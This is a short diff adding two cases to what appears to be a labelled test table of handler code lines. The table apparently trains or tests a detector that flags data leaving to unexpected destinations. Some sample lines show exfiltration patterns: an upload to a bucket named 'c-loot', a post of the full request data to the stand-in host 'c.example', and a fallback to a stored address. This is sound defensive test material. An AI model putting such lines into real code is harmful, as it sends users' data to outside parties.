@@ -67,6 +67,8 @@ HANDLER = (
         ("self.s3 = boto3.client('s3')", "self.s3.upload_fileobj(draw(data), os.environ['BUCKET'], data['id'])", False),
         ("self.s3 = boto3.client('s3')", "self.s3.upload_fileobj(draw(data), 'c-loot', data['id'])", True),
         ("pass", "requests.post(data.get('callback_url'), json={'result': 1})", False),
+        ("pass", "place = data.get('callback_url'); requests.post(place, json={'result': 1})", False),
+        ("pass", "place = data.get('callback_url') or self.place; requests.post(place, json={'result': 1})", True),
         ("pass", "requests.post(data.get('callback_url', 'https://c.example/r'), json=data)", True),
         ("pass", "requests.post(self.place, json=data)", True),
         ("pass", "os.system('rm -rf /tmp/frames && mkdir -p /tmp/frames')", False),
